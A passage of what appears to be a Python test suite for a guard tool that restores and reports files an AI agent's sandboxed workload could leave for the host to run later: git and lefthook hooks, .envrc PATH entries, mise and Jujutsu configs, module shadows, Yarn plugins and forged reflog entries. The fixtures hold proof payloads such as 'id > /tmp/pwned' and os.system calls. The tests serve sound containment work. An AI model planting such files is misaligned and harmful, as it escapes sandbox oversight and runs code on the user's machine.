    ("#!/bin/sh\n# lefthook hook\ncall_lefthook run pre-commit \"$@\"\n", "lefthook.yml"),
    ("#!/bin/sh\ncall_lefthook() { lefthook \"$@\"; }\n", "lefthook-local.yml"),
    ("#!/bin/sh\ncall_lefthook() { lefthook \"$@\"; }\n", ".lefthook/pre-commit/lint.sh"),
    ("#!/bin/sh\nexec hk run pre-commit \"$@\"\n", "hk.pkl"),
    ("#!/bin/sh\nexec prek hook-impl --hook-type=pre-commit\n", ".pre-commit-config.yaml"),
    ("#!/usr/bin/env ruby\n# overcommit hook\n", ".overcommit.yml"),
    ("#!/bin/sh\nmise run pre-commit\n", "mise-tasks/pre-commit"),
])
def test_what_a_hook_managers_installed_hook_reads_from_the_tree_is_put_back(repo, hook, config):
    """The review: lefthook's installed hook ran the workload's `lefthook.yml` at the
    host's next commit (pre-commit's was already covered)."""
    (repo / ".git/hooks/pre-commit").write_text(hook)
    g = guarded(repo)
    (repo / config).parent.mkdir(parents=True, exist_ok=True)
    (repo / config).write_text("pre-commit:\n  commands:\n    x:\n      run: id > /tmp/pwned\n")
    rec = g.check()
    assert config in {r["path"] for r in rec["refused"]}, rec["refused"]
    assert not (repo / config).exists()


def test_what_the_projects_envrc_loads_is_put_back(repo):
    """The review: an allowed `.envrc` with `PATH_add bin` and `source_env_if_exists
    .envrc.local` ran the workload's `bin/git` at the host's next `git status` and its
    `.envrc.local` on the next `cd`."""
    (repo / ".envrc").write_text("PATH_add bin\nsource_env_if_exists .envrc.local\ndotenv_if_exists\nuse flake\n"
                                 "watch_file $HOME/x\n")
    (repo / "bin").mkdir()
    (repo / "bin/build").write_text("#!/bin/sh\nmake\n")
    g = guarded(repo)
    (repo / "bin/git").write_text("#!/bin/sh\nid > /tmp/pwned; exec /usr/bin/git \"$@\"\n")
    (repo / ".envrc.local").write_text("id > /tmp/pwned\n")
    (repo / ".env").write_text("PATH=./bin:/usr/bin\n")
    (repo / "flake.nix").write_text("{ outputs = _: { }; }\n")
    rec = g.check()
    assert {"bin/git", ".envrc.local", ".env", "flake.nix"} <= {r["path"] for r in rec["refused"]}, rec["refused"]
    assert not (repo / "bin/git").exists() and (repo / "bin/build").read_text() == "#!/bin/sh\nmake\n"


def test_a_repository_made_below_an_unprotected_path_is_still_removed(repo, tmp_path_factory):
    """Eighth review: `unprotected_paths: [.vscode]` let a workload-made
    .vscode/ext/.git (its config with a core.fsmonitor command) stay."""
    g = guarded(repo, ".vscode")
    g.shadows(tmp_path_factory.mktemp("runs") / "s")
    git(repo, "init", "-q", ".vscode/ext")
    rec = g.check()
    assert any(r["path"] == ".vscode/ext/.git" for r in rec["refused"]), rec
    assert not (repo / ".vscode/ext/.git/config").exists()


# The ninth review: what an allowed `.envrc` runs from the project, however it says so.
@pytest.mark.parametrize("envrc,written", [
    ('PATH_add "$PWD/bin"\n', "bin/git"),
    ("PATH_add bin tools\n", "tools/git"),
    ("export PATH=$PWD/tools:$PATH\n", "tools/git"),
    ('export PATH="${PWD}/node_bin:${PATH}"\n', "node_bin/git"),
    ("PATH=./scripts:$PATH\n", "scripts/git"),
    ("source scripts/env.sh\n", "scripts/env.sh"),
    (". ./env.local\n", "env.local"),
    ("load_prefix vendor\n", "vendor/bin/git"),
    ("path_add PYTHONPATH lib\n", "lib/sitecustomize.py"),
    ("export PYTHONPATH=$(pwd)/lib\n", "lib/sitecustomize.py"),
    ("layout go\n", "bin/git"),
    ("./scripts/setup.sh\n", "scripts/setup.sh"),
    ("if has nix; then use flake; fi; source_env_if_exists .envrc.private\n", ".envrc.private"),
])
def test_what_the_envrc_runs_from_the_project_is_put_back_however_it_says_so(repo, envrc, written):
    (repo / ".envrc").write_text(envrc)
    g = guarded(repo)
    (repo / written).parent.mkdir(parents=True, exist_ok=True)
    (repo / written).write_text("#!/bin/sh\nid > /tmp/pwned\n")
    rec = g.check()
    refused = {r["path"] for r in rec["refused"]}
    assert refused & {written, str(Path(written).parent)}, (envrc, rec["refused"])
    assert not (repo / written).exists()


@pytest.mark.parametrize("setup,exposed", [
    (lambda r: (r / ".git/hooks/pre-commit").write_text("#!/bin/sh\nnpx lint-staged\n"), ".git/hooks"),
    (lambda r: (r / ".envrc").write_text("layout node\n"), "node_modules/.bin"),
    (lambda r: (r / ".envrc").write_text("layout php\n"), "vendor/bin"),
    (lambda r: (r / ".envrc").write_text("layout python3\n"), ".direnv"),
    (lambda r: (r / ".envrc").write_text("export PATH=$PWD:$PATH\n"), "."),
    # documented as not said until now: `tox -e py311` and `nox -s tests` reuse them
    (lambda r: (r / ".tox/py311").mkdir(parents=True) or (r / ".tox/py311/pyvenv.cfg").write_text("home = /x\n"),
     ".tox/py311"),
    (lambda r: (r / "sub/.nox/tests").mkdir(parents=True) or (r / "sub/.nox/tests/pyvenv.cfg").write_text("x\n"),
     "sub/.nox/tests"),
])
def test_what_runs_on_the_host_and_kooi_cannot_keep_is_said(repo, setup, exposed):
    """The ninth review: husky's installed hook runs `npx lint-staged`, which runs
    node_modules/lint-staged, which the workload can rewrite; direnv's `layout node` puts
    node_modules/.bin first on the host's PATH. Far too much to keep a copy of: the
    result says what runs on the host from there, and a workflow can refuse it."""
    setup(repo)
    os.chmod(repo / ".git/hooks/pre-commit", 0o755) if (repo / ".git/hooks/pre-commit").exists() else None
    g = guarded(repo)
    rec = g.check()
    assert exposed in {e["path"] for e in rec["exposed"]}, rec.get("exposed")


def test_a_project_without_hooks_or_layouts_exposes_nothing(repo):
    assert guarded(repo).check()["exposed"] == []


@pytest.mark.parametrize("path", ["GNUmakefile", "makefile", "sub/.mvn/jvm.config", "go.work",
                                  "buildSrc/build.gradle.kts", "docker-compose.override.yml", "compose.override.yaml",
                                  "gradle.properties", "sub/Makefile", "sub/pom.xml", "sub/package.json"])
def test_build_entry_points_anywhere_are_watched(repo, path):
    """The ninth review: a module's own `.mvn/jvm.config` (a -javaagent), a new
    GNUmakefile, go.work, buildSrc, compose overrides changed without a word."""
    g = guarded(repo)
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text("x\n")
    rec = g.check()
    assert {path, path.split("/")[0]} & {c["path"] for c in rec["watched_changed"]}, rec["watched_changed"]
    assert (repo / path).exists()  # watched: listed and kept


# The tenth review (helper-14): what still ran on the host, unsaid.
def _host_git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)


def test_commands_the_repositorys_own_config_runs_are_said(repo):
    """nbstripout --install: git's clean filter runs `python -m nbstripout`, which loads
    the workload's nbstripout.py at the host's next `git status`."""
    _host_git(repo, "config", "filter.nbstripout.clean", '"/usr/bin/python3" -m nbstripout')
    _host_git(repo, "config", "diff.ipynb.textconv", '"/usr/bin/python3" -m nbstripout -t')
    rec = guarded(repo).check()
    exposed = {e["path"]: e["why"] for e in rec["exposed"]}
    assert ".git/config" in exposed and "filter.nbstripout.clean" in exposed[".git/config"], rec["exposed"]


@pytest.mark.parametrize("envrc,written", [
    ('export PATH="$PWD/bin1${PATH:+:$PATH}"\n', "bin1/git"),
    ("PATH_add \\\n  bin2\n", "bin2/git"),
    ("source_env_if_exists .envrc.local\n", "bin6/git"),  # .envrc.local: PATH_add bin6
    ("export NODE_OPTIONS=--require=./hook4.js\n", "hook4.js"),
    ("export GIT_CONFIG_GLOBAL=$PWD/.gitconfig-dev\n", ".gitconfig-dev"),
    ("export KUBECONFIG=$PWD/kubeconfig\n", "kubeconfig"),
    ("layout go\n", "bin/git"),
    ("use devenv\n", "devenv.nix"),
])
def test_what_the_envrc_runs_is_kept_in_the_tenth_reviews_spellings(repo, envrc, written):
    (repo / ".envrc").write_text(envrc)
    (repo / ".envrc.local").write_text("PATH_add bin6\n")
    (repo / ".venv/bin").mkdir(parents=True)
    (repo / ".venv/bin/activate").write_text('VIRTUAL_ENV=x\nPATH="$VIRTUAL_ENV/bin:$PATH"\n')
    g = guarded(repo)
    (repo / written).parent.mkdir(parents=True, exist_ok=True)
    (repo / written).write_text("#!/bin/sh\nid > /tmp/pwned\n")
    rec = g.check()
    refused = {r["path"] for r in rec["refused"]}
    assert refused & {written, str(Path(written).parent)}, (envrc, rec["refused"])
    assert "+" not in rec["protected"]


def test_every_envrc_is_said_to_run_on_the_host_and_a_subdirectorys_is_read_too(repo):
    (repo / ".envrc").write_text("for d in tools/bin; do PATH_add \"$d\"; done\n")
    (repo / "sub").mkdir()
    (repo / "sub/.envrc").write_text("PATH_add bin\n")
    g = guarded(repo)
    (repo / "sub/bin").mkdir()
    (repo / "sub/bin/git").write_text("#!/bin/sh\nid > /tmp/pwned\n")
    rec = g.check()
    assert {".envrc", "sub/.envrc"} <= {e["path"] for e in rec["exposed"]}, rec["exposed"]
    assert {"sub/bin", "sub/bin/git"} & {r["path"] for r in rec["refused"]}, rec["refused"]


def test_a_source_tree_on_a_module_path_is_said_not_put_back(repo):
    """PYTHONPATH=$PWD/src made all of src/ protected: the agent's edits were reverted."""
    (repo / ".envrc").write_text("export PYTHONPATH=$PWD/src\nexport VIRTUAL_ENV=venv5\nlayout python\n")
    (repo / "src").mkdir()
    (repo / "src/app.py").write_text("print(1)\n")
    g = guarded(repo)
    (repo / "src/app.py").write_text("print(2)\n")
    rec = g.check()
    assert (repo / "src/app.py").read_text() == "print(2)\n" and not rec["refused"], rec["refused"]
    assert {"src", "venv5"} <= {e["path"] for e in rec["exposed"]}, rec["exposed"]


@pytest.mark.parametrize("setup,target", [
    ({".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: .yarn/plugins/p.cjs\n"},
     ".yarn/releases/yarn-4.1.0.cjs"),
    ({".yarnrc.yml": "plugins:\n  - path: .yarn/plugins/p.cjs\n    spec: x\n"}, ".yarn/plugins/p.cjs"),
    ({".yarnrc": 'yarn-path ".yarn/releases/yarn-1.22.cjs"\n'}, ".yarn/releases/yarn-1.22.cjs"),
    ({".npmrc": "pnpmfile=./hooks/pnpmfile.cjs\n"}, "hooks/pnpmfile.cjs"),
])
def test_the_package_managers_own_code_the_project_names_is_kept(repo, setup, target):
    for name, text in setup.items():
        (repo / name).write_text(text)
    (repo / target).parent.mkdir(parents=True, exist_ok=True)
    (repo / target).write_text("// yarn\n")
    g = guarded(repo)
    (repo / target).write_text("require('child_process').execSync('id > /tmp/pwned')\n")
    rec = g.check()
    assert target in {r["path"] for r in rec["refused"]} and (repo / target).read_text() == "// yarn\n", rec


@pytest.mark.parametrize("name", ["argparse.py", "textwrap.py", "tokenize.py", "linecache.py", "subprocess.py",
                                  "inspect/__init__.py", "_pytest.py", "pluggy.py", "crush.json", ".dir-locals-2.el",
                                  ".vimrc"])
def test_new_module_shadows_and_more_editor_files_are_removed(repo, name):
    g = guarded(repo)
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).write_text("import os; os.system('id > /tmp/pwned')\n")
    rec = g.check()
    assert {name, name.split("/")[0]} & {r["path"] for r in rec["refused"]}, rec["refused"]


def test_a_projects_own_module_named_like_a_tool_is_its_own(repo):
    """A project that is itself black (or has a calendar.py) keeps working on it."""
    (repo / "black").mkdir()
    (repo / "black/__init__.py").write_text("v = 1\n")
    (repo / "calendar.py").write_text("v = 1\n")
    g = guarded(repo)
    (repo / "black/__init__.py").write_text("v = 2\n")
    (repo / "calendar.py").write_text("v = 2\n")
    rec = g.check()
    assert not rec["refused"], rec["refused"]


@pytest.mark.parametrize("made", [".venv/bin/python", "venv/bin/python", "node_modules/eslint/lib/api.js"])
def test_an_interpreter_or_libraries_editors_run_are_said(repo, made):
    g = guarded(repo)
    (repo / made).parent.mkdir(parents=True, exist_ok=True)
    (repo / made).write_text("x\n")
    rec = g.check()
    assert made.split("/")[0] in {e["path"] for e in rec["exposed"]}, rec["exposed"]


# The eleventh review (helper-16, reading the code against direnv, git, CPython, Yarn, pnpm).
@pytest.mark.parametrize("name", ["argparse.pyc", "argparse.so", "argparse.abi3.so",
                                  "argparse.cpython-311-x86_64-linux-gnu.so", "__future__.py", "pygments.py",
                                  "packaging/__init__.py", "tomli.py", "nbstripout.py", "logging/__init__.py",
                                  "json/__init__.pyc"])
def test_a_new_module_in_any_form_that_shadows_a_tool_is_removed(repo, name):
    (repo / "logging").mkdir()  # data directories of those names: no modules
    (repo / "logging/app.log").write_text("x\n")
    (repo / "json").mkdir()
    (repo / "json/fixture.json").write_text("{}\n")
    g = guarded(repo)
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).write_bytes(b"x")
    rec = g.check()
    assert name in {r["path"] for r in rec["refused"]}, rec["refused"]
    assert not (repo / name).exists() and (repo / "logging/app.log").exists()


def test_a_symlinked_envrc_is_read_where_it_points(repo):
    (repo / ".envrc.example").write_text("PATH_add bin\n")
    (repo / ".envrc").symlink_to(".envrc.example")
    g = guarded(repo)
    (repo / "bin").mkdir()
    (repo / "bin/git").write_text("#!/bin/sh\n")
    rec = g.check()
    assert {"bin", "bin/git"} & {r["path"] for r in rec["refused"]}, rec["refused"]
    assert ".envrc" in {e["path"] for e in rec["exposed"]}


@pytest.mark.parametrize("envrc,files,written", [
    ("source scripts/env.sh\n", {"scripts/env.sh": "PATH_add bin\n"}, "bin/git"),  # $PWD, not the file's dir
    ('PATH_add "$(git rev-parse --show-toplevel)/scripts"\n', {}, "scripts/git"),
    ('export PATH="$(expand_path tools):$PATH"\n', {}, "tools/git"),
    ('PATH+=":$PWD/tools"\n', {}, "tools/git"),
    ("export PATH=\\\n\"$PWD/tools:$PATH\"\n", {}, "tools/git"),
    ("use nix ./nix/dev.nix\n", {}, "nix/dev.nix"),
    ("use flake ./nix#dev\n", {}, "nix/flake.nix"),
    ("use guix\n", {}, "manifest.scm"),
    ("use vim\n", {}, ".vimrc.local"),
])
def test_more_envrc_spellings_keep_what_they_run(repo, envrc, files, written):
    (repo / ".envrc").write_text(envrc)
    for rel, text in files.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    g = guarded(repo)
    (repo / written).parent.mkdir(parents=True, exist_ok=True)
    (repo / written).write_text("#!/bin/sh\n")
    rec = g.check()
    assert {written, str(Path(written).parent)} & {r["path"] for r in rec["refused"]}, (envrc, rec["refused"])


@pytest.mark.parametrize("envrc,worked", [
    ("source_env ./backend\n", "backend/app.py"),
    ("watch_file pyproject.toml\n", "pyproject.toml"),
    ("source .venv/bin/activate\n", ".venv/bin/black"),
    ("export PATH=node_modules/.bin:$PATH\n", "node_modules/.bin/eslint"),
    ("env_vars_required FOO\n", "FOO"),
])
def test_what_an_envrc_only_names_or_an_environment_holds_is_the_workloads_to_change(repo, envrc, worked):
    """Over-protection the review found: the agent's work reverted."""
    (repo / ".envrc").write_text(envrc)
    (repo / "backend").mkdir()
    (repo / "backend/.envrc").write_text("export X=1\n")
    g = guarded(repo)
    (repo / worked).parent.mkdir(parents=True, exist_ok=True)
    (repo / worked).write_text("work\n")
    rec = g.check()
    assert (repo / worked).exists() and worked not in {r["path"] for r in rec["refused"]}, rec["refused"]


@pytest.mark.parametrize("config,key", [
    ('[alias]\n\tup = "!f() { ./scripts/up; }; f"\n', "alias.up"),
    ('[filter "x"] clean = python3 -m x\n', "filter.x.clean"),
    ("[diff]\n\texternal = ./tools/difft\n", "diff.external"),
    ("[pager]\n\tlog = ./tools/pager\n", "pager.log"),
    ('[submodule "s"]\n\tupdate = !./tools/up\n', "submodule.s.update"),
    ('[trailer "t"]\n\tcmd = ./tools/t\n', "trailer.t.cmd"),
])
def test_more_commands_the_repositorys_config_runs_are_said(repo, config, key):
    with open(repo / ".git/config", "a") as f:
        f.write(config)
    rec = guarded(repo).check()
    assert key in " ".join(e["why"] for e in rec["exposed"]), rec["exposed"]


def test_commands_in_an_included_config_are_said(repo):
    (repo / ".gitconfig").write_text('[filter "nb"]\n\tclean = python3 -m nbstripout\n')
    _host_git(repo, "config", "include.path", "../.gitconfig")
    rec = guarded(repo).check()
    assert "filter.nb.clean" in " ".join(e["why"] for e in rec["exposed"]), rec["exposed"]


@pytest.mark.parametrize("setup,target", [
    ({".yarnrc.yml": "plugins:\n  - checksum: abc\n    path: .yarn/plugins/x.cjs\n    spec: x\n"},
     ".yarn/plugins/x.cjs"),
    ({"pnpm-workspace.yaml": "packages: [a]\npnpmfile: tools/h.cjs\n"}, "tools/h.cjs"),
    ({"mise.toml": '[env]\n_.source = "scripts/env.sh"\n'}, "scripts/env.sh"),
])
def test_more_code_the_package_managers_settings_name_is_kept(repo, setup, target):
    for name, text in setup.items():
        (repo / name).write_text(text)
    (repo / target).parent.mkdir(parents=True, exist_ok=True)
    (repo / target).write_text("ok\n")
    g = guarded(repo)
    (repo / target).write_text("pwned\n")
    rec = g.check()
    assert target in {r["path"] for r in rec["refused"]}, rec["refused"]


def test_a_linked_worktrees_hooks_and_config_commands_are_said(repo, tmp_path_factory):
    """The usual way to run agents side by side: .git is a file naming the main
    repository's worktrees/NAME, whose hooks and config live outside the project."""
    _host_git(repo, "commit", "-q", "--allow-empty", "-m", "one")
    (repo / ".git/hooks/pre-commit").write_text("#!/bin/sh\nlefthook run pre-commit\n")
    os.chmod(repo / ".git/hooks/pre-commit", 0o755)
    _host_git(repo, "config", "filter.nb.clean", "python3 -m nbstripout")
    wt = tmp_path_factory.mktemp("wt") / "agent"
    _host_git(repo, "worktree", "add", "-q", str(wt))
    rec = guarded(wt).check()
    said = " ".join(f"{e['path']} {e['why']}" for e in rec["exposed"])
    assert "pre-commit" in said and "filter.nb.clean" in said, rec["exposed"]
    assert "lefthook.yml" in rec["protected"]


@pytest.mark.parametrize("made", [".pnp.cjs", ".yarn/sdks/eslint/lib/api.js", ".conda/bin/python", "env/bin/python"])
def test_more_environments_editors_run_are_said(repo, made):
    g = guarded(repo)
    (repo / made).parent.mkdir(parents=True, exist_ok=True)
    (repo / made).write_text("x\n")
    rec = g.check()
    assert {made, made.split("/")[0], "/".join(made.split("/")[:2])} & {e["path"] for e in rec["exposed"]}, \
        rec["exposed"]


def test_commits_under_tags_remotes_a_stash_and_a_detached_head_are_listed(repo, tmp_path_factory):
    """Session 29: the review-17 check judged branches only; what a tag, a remote-tracking
    branch, a detached HEAD or a stash (its untracked files in the third parent, its
    index in the second) carries was named as a moved ref only, and `git checkout v2` or
    `git stash pop` wrote it. A ref made at the project's own commit lists nothing of
    what the project itself has."""
    (repo / ".vscode").mkdir()
    (repo / ".vscode/settings.json").write_text("{}\n")  # the project's own, committed
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)

    def commit_with(name: str, text: str) -> str:
        idx = base.parent / f"idx-{name.replace('/', '_')}"
        env = {**GIT_ENV, "GIT_DIR": str(view), "GIT_INDEX_FILE": str(idx)}
        run = lambda *a, **kw: subprocess.run(["git", *a], cwd=repo, env=env, check=True, capture_output=True,  # noqa: E731
                                              text=True, **kw).stdout.strip()
        run("read-tree", "HEAD")
        blob = run("hash-object", "-w", "--stdin", input=text)
        run("update-index", "--add", "--cacheinfo", f"100644,{blob},{name}")
        return run("commit-tree", run("write-tree"), "-p", "HEAD", "-m", name)

    git(repo, "tag", "v2", commit_with(".envrc", "touch /tmp/x\n"), git_dir=view)
    git(repo, "update-ref", "refs/remotes/origin/feature", commit_with("json.py", "import os\n"), git_dir=view)
    git(repo, "branch", "copy", git_dir=view)  # at the project's commit: nothing new
    (repo / ".vscode/tasks.json").write_text('{"tasks": []}\n')
    (repo / ".envrc").write_text("touch /tmp/y\n")
    git(repo, "add", "-f", ".envrc", git_dir=view)
    git(repo, "stash", "push", "-q", "-u", git_dir=view)
    assert not (repo / ".vscode/tasks.json").exists() and not (repo / ".envrc").exists()
    git(repo, "update-ref", "--no-deref", "HEAD", commit_with(".devcontainer.json", "{}\n"), git_dir=view)
    rec = g.check()
    committed = {(c["path"], c["change"].split(" (", 1)[0]) for c in rec["watched_changed"]
                 if "committed on" in c["change"]}
    assert committed == {(".envrc", "committed on refs/tags/v2"), ("json.py", "committed on refs/remotes/origin/feature"),
                         (".envrc", "committed on refs/stash"), (".envrc", "committed on refs/stash^2"),
                         (".vscode/tasks.json", "committed on refs/stash^3"),
                         (".devcontainer.json", "committed on HEAD")}, rec["watched_changed"]


def test_commits_left_in_a_reflog_orig_head_or_between_a_branchs_ends_are_listed(repo, tmp_path_factory):
    """Review 25: a commit the workload made on a detached HEAD, then back on the branch,
    is on no ref: `git checkout -` (HEAD's reflog) wrote its `.envrc` on the host, and the
    result said nothing. So are ORIG_HEAD, a reflog message's "moving from X" (what `git
    checkout -` reads) and a commit between a branch's start and its tip (`git checkout
    main~1`). The project's own reflog before the run lists nothing."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    (repo / ".envrc").write_text("the project's own, amended away\n")
    git(repo, "add", "-f", ".envrc")
    git(repo, "commit", "-q", "--amend", "-m", "one")  # the project's own .envrc, left in its reflog
    git(repo, "rm", "-q", "--cached", ".envrc")
    git(repo, "commit", "-q", "--amend", "-m", "one")
    (repo / ".envrc").unlink()
    branch = git(repo, "symbolic-ref", "--short", "HEAD").strip()
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)

    def commit_with(name: str, text: str) -> str:
        idx = base.parent / f"idx-{name.replace('/', '_')}"
        env = {**GIT_ENV, "GIT_DIR": str(view), "GIT_INDEX_FILE": str(idx)}
        run = lambda *a, **kw: subprocess.run(["git", *a], cwd=repo, env=env, check=True, capture_output=True,  # noqa: E731
                                              text=True, **kw).stdout.strip()
        run("read-tree", "HEAD")
        blob = run("hash-object", "-w", "--stdin", input=text)
        run("update-index", "--add", "--cacheinfo", f"100644,{blob},{name}")
        return run("commit-tree", run("write-tree"), "-p", "HEAD", "-m", name)

    git(repo, "checkout", "-q", "--detach", git_dir=view)
    (repo / ".envrc").write_text("touch /tmp/pwned\n")
    git(repo, "add", "-f", ".envrc", git_dir=view)
    git(repo, "commit", "-qm", "x", git_dir=view)
    git(repo, "checkout", "-q", branch, git_dir=view)
    (repo / ".vscode").mkdir()
    (repo / ".vscode/tasks.json").write_text('{"tasks": []}\n')
    git(repo, "add", "-f", ".vscode/tasks.json", git_dir=view)
    git(repo, "commit", "-qm", "tasks", git_dir=view)
    git(repo, "rm", "-rq", ".vscode", git_dir=view)
    (repo / "work.txt").write_text("the run's work\n")
    git(repo, "add", "work.txt", git_dir=view)
    git(repo, "commit", "-qm", "work", git_dir=view)
    (view / "ORIG_HEAD").write_text(commit_with("json.py", "import os\n") + "\n")
    forged = commit_with(".devcontainer.json", "{}\n")
    with (repo / ".git/logs/HEAD").open("a") as f:
        f.write(f"{forged} {forged} a <a@b> 1 +0000\tcheckout: moving from {forged} to {branch}\n")
    rec = g.check()
    got = {(c["path"], c["change"].split(" (", 1)[0].split(", reachable from ")[-1]) for c in rec["watched_changed"]
           if "committed in" in c["change"]}
    assert {p for p, _ in got} == {".envrc", ".vscode/tasks.json", "json.py", ".devcontainer.json"}, got
    assert {("json.py", "ORIG_HEAD"), (".devcontainer.json", "HEAD@{0}")} <= got, got
    assert all(where.startswith("HEAD@{") for p, where in got if p in (".envrc", ".vscode/tasks.json")), got
    assert not (repo / ".envrc").exists() and "work.txt" in git(repo, "ls-files")
    git(repo, "checkout", "-q", "-")  # what the host user may type: kooi said what it writes
    assert (repo / ".devcontainer.json").exists()  # the forged "moving from" commit


def test_a_runs_ordinary_commits_list_nothing(repo):
    """The judgement of every commit a run made lists nothing for ordinary work (commits,
    a branch, an amend, a reset), with ORIG_HEAD and the reflogs it leaves."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    g = guarded(repo)
    (repo / "src.txt").write_text("fixed\n")
    git(repo, "commit", "-qam", "fix")
    git(repo, "checkout", "-qb", "feature")
    (repo / "more.txt").write_text("more\n")
    git(repo, "add", "more.txt")
    git(repo, "commit", "-qm", "more")
    git(repo, "commit", "-q", "--amend", "-m", "more, amended")
    git(repo, "reset", "-q", "--hard", "HEAD~1")
    rec = g.check()
    assert not [c for c in rec["watched_changed"] if "committed" in c["change"]], rec["watched_changed"]


def test_commits_in_nested_repositories_and_a_gitdir_files_repository_are_listed(tmp_path, tmp_path_factory):
    """Session 29: only the top `.git` was judged. A nested repository's branch (a host
    user's `git -C vendor/lib checkout` writes vendor/lib/.envrc, which direnv runs) and
    a project whose `.git` is a `gitdir:` file to a repository in it (the `.bare` layout)
    took commits that no check looked into."""
    top = tmp_path / "p"
    top.mkdir()
    subprocess.run(["git", "init", "-q", "--bare", str(top / ".bare")], check=True)
    (top / ".git").write_text("gitdir: ./.bare\n")
    (top / "a.txt").write_text("a\n")
    git(top, "--git-dir", str(top / ".bare"), "--work-tree", str(top), "add", "a.txt")
    git(top, "--git-dir", str(top / ".bare"), "--work-tree", str(top), "commit", "-qm", "one")
    lib = top / "vendor/lib"
    lib.mkdir(parents=True)
    git(lib, "init", "-q")
    (lib / "x.txt").write_text("x\n")
    git(lib, "add", "x.txt")
    git(lib, "commit", "-qm", "one")
    g = guarded(top)

    def commit_with(gitdir: Path, name: str) -> str:
        env = {**GIT_ENV, "GIT_DIR": str(gitdir), "GIT_INDEX_FILE": str(tmp_path / f"idx-{gitdir.name}")}
        run = lambda *a, **kw: subprocess.run(["git", *a], cwd=tmp_path, env=env, check=True,  # noqa: E731
                                              capture_output=True, text=True, **kw).stdout.strip()
        run("read-tree", "HEAD")
        blob = run("hash-object", "-w", "--stdin", input="touch /tmp/pwned\n")
        run("update-index", "--add", "--cacheinfo", f"100644,{blob},{name}")
        return run("commit-tree", run("write-tree"), "-p", "HEAD", "-m", name)

    branch = git(lib, "symbolic-ref", "HEAD").strip()
    git(lib, "update-ref", branch, commit_with(lib / ".git", ".envrc"))
    git(top, "--git-dir", str(top / ".bare"), "tag", "v2", commit_with(top / ".bare", ".vscode/tasks.json"))
    rec = g.check()
    committed = {(c["path"], c["change"].split(" (", 1)[0]) for c in rec["watched_changed"]
                 if "committed on" in c["change"]}
    assert committed == {("vendor/lib/.envrc", f"committed on {branch} of vendor/lib/.git"),
                         (".vscode/tasks.json", "committed on refs/tags/v2 of .bare")}, rec["watched_changed"]


@pytest.mark.parametrize("path,text", [
    ("sub/.hg/hgrc", "[hooks]\npre-status = touch /tmp/pwned\n"),
    ("sub/.hg/sharedpath", "/tmp/evil/.hg\n"),
    ("sub2/.jj/repo/config.toml", '[ui]\npager = ["sh", "-c", "touch /tmp/pwned"]\n'),
    (".sl/config", "[hooks]\npre-status = touch /tmp/pwned\n"),
    ("deep/er/.sl/config", "[extensions]\nevil = ../evil.py\n"),
])
def test_other_version_control_settings_anywhere_are_put_back(repo, path, text):
    """Review 28 (F4): Mercurial's, Jujutsu's and Sapling's repository settings below the
    top (and Sapling's at the top) stayed: `hg status`, `jj log` or `sl status` there
    runs their hooks, extensions and pagers."""
    g = guarded(repo)
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text(text)
    rec = g.check()
    assert path in {r["path"] for r in rec["refused"]}, rec["refused"]
    assert rec["restored"] and not (repo / path).exists()


# Every name mise (and rtx, its former name) reads, at the top and below it, and
# Jujutsu's workspace settings (review 32: these stayed, unlisted).
MISE_AND_JJ = [".rtx.toml", ".rtx.local.toml", ".rtx.ci.toml", ".config/mise.local.toml", ".config/mise.dev.toml",
               ".config/mise/config.toml", ".mise.ci.local.toml", "sub/mise.local.toml", "sub/.mise.local.toml",
               "sub/.rtx.toml", "sub/mise/config.toml", "sub/.config/mise/config.toml", "sub/.config/mise.local.toml",
               "sub/mise.dev.toml", "sub/.config/mise.toml", "deep/er/.mise.staging.toml",
               ".jj/workspace-config.toml", "sub/.jj/workspace-config.toml",
               # mise's early settings, read with no trust check, rename the files it loads
               # (override_config_filenames; review 33)
               ".miserc.toml", ".config/miserc.toml", "sub/.miserc.toml", "sub/.config/miserc.toml"]


def test_every_mise_and_jujutsu_setting_anywhere_is_put_back(repo):
    """Review 32: mise's local and profile files under `.config/`, anywhere below the top,
    and rtx's names, and Jujutsu's `.jj/workspace-config.toml`, stayed in the project:
    mise loads them from every directory up from where it runs (an `[env] _.source` runs
    a script), `jj log` runs the workspace's pager. All are put back and listed; a
    project's own file of such a name stays as it was."""
    (repo / "sub").mkdir()
    (repo / "sub/mise.local.toml").write_text("[tools]\nnode = '22'\n")
    g = guarded(repo)
    for rel in MISE_AND_JJ:
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text('[env]\n_.source = "./evil.sh"\n[ui]\npager = ["sh", "-c", "id"]\n')
    rec = g.check()
    refused = {r["path"] for r in rec["refused"]}
    missed = [r for r in MISE_AND_JJ if not any(r == p or r.startswith(p + "/") for p in refused)]
    assert missed == [], missed
    assert rec["restored"] and [r for r in MISE_AND_JJ if r != "sub/mise.local.toml" and (repo / r).exists()] == []
    assert (repo / "sub/mise.local.toml").read_text() == "[tools]\nnode = '22'\n"


def test_a_config_directory_below_the_top_that_becomes_a_link_is_put_back(repo):
    """Review 33: `sub/.config` made a link to a directory of the workload's (under
    node_modules, which nothing protects) holding mise.toml: the walk looked into real
    `.config` directories only, so mise in sub/ read the workload's settings through the
    link. A `.config` below the top that is a link is kept itself, like `.hg`."""
    (repo / "node_modules/evil").mkdir(parents=True)
    (repo / "sub").mkdir()
    g = guarded(repo)
    (repo / "node_modules/evil/mise.toml").write_text("[hooks]\nenter = 'id'\n")
    (repo / "sub/.config").symlink_to("../node_modules/evil")
    rec = g.check()
    assert "sub/.config" in {r["path"] for r in rec["refused"]}, rec["refused"]
    assert rec["restored"] and not os.path.lexists(repo / "sub/.config")


# Review 34: what other tools on the host read and run, unprotected and unlisted before.
TOOLS_PROTECTED = [
